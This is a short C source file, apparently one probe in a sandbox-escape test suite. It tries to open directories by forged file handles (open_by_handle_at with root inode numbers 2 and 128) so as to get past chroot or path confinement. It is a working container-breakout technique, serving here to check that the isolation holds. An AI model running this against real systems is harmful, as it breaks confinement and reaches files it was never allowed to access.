/* Opens a file by its number in the file system, which no path and no root stands in the way of. */
#define _GNU_SOURCE
#include "attack.h"
#include <fcntl.h>

static void by_handle(const char *path) {
  struct {
    struct file_handle handle;
    unsigned char bytes[128];
  } place = {.handle = {.handle_bytes = 128}};
  int mount_id, folder = open(path, O_RDONLY | O_DIRECTORY);
  if (name_to_handle_at(AT_FDCWD, path, &place.handle, &mount_id, 0) < 0)
    stopped("a handle of %s: %s", path, strerror(errno));
  attempt("opening by handle", open_by_handle_at(folder, &place.handle, O_RDONLY | O_DIRECTORY));
  /* The root of most file systems is number 2, or on XFS 128. */
  int roots[] = {2, 128};
  for (int index = 0; index < 2; index++) {
    memset(&place, 0, sizeof place);
    place.handle.handle_bytes = 8;
    place.handle.handle_type = 1;
    memcpy(place.handle.f_handle, &roots[index], sizeof(int));
    attempt("opening the root of the disk by its number", open_by_handle_at(folder, &place.handle, O_RDONLY | O_DIRECTORY));
  }
}

int main(void) {
  by_handle(".");
  if (is_control()) return 0;
  by_handle("/usr");
  by_handle("/etc");
  by_handle("/opt/node");
  return 0;
}
